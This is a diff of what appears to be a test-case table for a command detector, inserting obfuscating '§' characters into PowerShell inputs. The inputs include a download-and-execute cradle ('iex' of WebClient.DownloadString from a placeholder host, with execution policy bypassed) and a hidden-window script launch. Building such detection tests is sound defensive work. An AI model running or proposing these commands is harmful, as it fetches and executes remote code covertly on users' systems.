@@ -50,7 +50,7 @@ CASES = {
                 'powershell -NoProfile -ExecutionPolicy Bypass -Command "iex ',
                 "((New-Object",
                 " ",
-                "System.Net.WebClient).DownloadString('https://packages.example/install.ps1'))\"",
+                "S§ystem.Net.WebClient).DownloadString('https://packages.example/install.ps1'))\"",
             ),
             text(
                 "powershell -WindowStyle Hid§den -File C:\\Tools\\tray.ps1\r\n",
